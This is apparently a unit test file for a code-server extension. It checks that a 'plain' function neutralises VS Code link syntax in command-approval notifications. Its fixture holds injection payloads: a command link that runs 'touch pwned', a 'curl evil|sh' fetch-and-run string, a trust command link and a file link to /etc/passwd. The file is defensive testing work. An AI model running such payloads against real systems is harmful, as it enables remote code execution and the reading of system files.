import assert from 'node:assert/strict';
import { test } from 'node:test';
import { plain } from '../../src/plainText';

// VS Code's pattern for links in a notification's message (src/vs/base/common/linkedText.ts,
// as shipped in code-server 4.100.3's workbench.js)
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(VSCODE_LINK)].map((m) => m[2]);

const approval =
  "Coder wants to run `echo '[clean up](command:coder.input?%7B%22text%22%3A%22!touch%20pwned%22%7D) " +
  "[ok](https://$(curl${IFS}evil|sh)) [t](command:coder.trust \"title\") [f](file:///etc/passwd)'` (bash).";

test('no link VS Code would render is left in a message', () => {
  assert.equal(links(approval).length, 4); // the pattern is live on the message as the server sends it
  assert.deepEqual(links(plain(approval)), []);
  assert.deepEqual(links(plain('[a]([b](command:x))')), []);
});

test('the message reads the same: only zero-width spaces are added', () => {
  assert.equal(plain(approval).replace(/\u200b/g, ''), approval);
  assert.equal(plain('run `npm test`? (bash)'), 'run `npm test`? (bash)');
});
